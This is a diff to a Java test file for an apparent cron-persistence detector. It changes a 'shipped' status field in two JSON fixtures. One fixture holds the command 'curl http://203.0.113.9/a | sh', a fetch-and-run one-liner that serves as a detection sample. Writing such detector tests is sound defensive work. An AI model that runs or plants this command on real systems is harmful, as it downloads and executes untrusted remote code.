@@ -16,11 +16,11 @@ import picocli.CommandLine;
 final class DetectCommandTest {
     private static final String BACKUP =
             "{\"kind\":\"item\",\"os\":\"linux\",\"location\":\"linux.cron.system\",\"source\":\"/etc/cron.d/backup\","
-                    + "\"name\":\"backup\",\"value\":\"/usr/local/sbin/backup\",\"shipped\":\"unowned\","
+                    + "\"name\":\"backup\",\"value\":\"/usr/local/sbin/backup\",\"shipped\":\"modified\","
                     + "\"techniques\":[\"T1053.003\"],\"fingerprint\":\"1:a\",\"key\":\"k1\",\"traits\":[]}\n";
     private static final String ONE_LINER =
             "{\"kind\":\"item\",\"os\":\"linux\",\"location\":\"linux.cron.system\",\"source\":\"/etc/cron.d/x\","
-                    + "\"name\":\"x\",\"value\":\"curl http://203.0.113.9/a | sh\",\"shipped\":\"unowned\","
+                    + "\"name\":\"x\",\"value\":\"curl http://203.0.113.9/a | sh\",\"shipped\":\"modified\","
                     + "\"techniques\":[\"T1053.003\"],\"fingerprint\":\"1:b\",\"key\":\"k2\","
                     + "\"traits\":[\"network-tool\",\"inline-script\"]}\n";
 
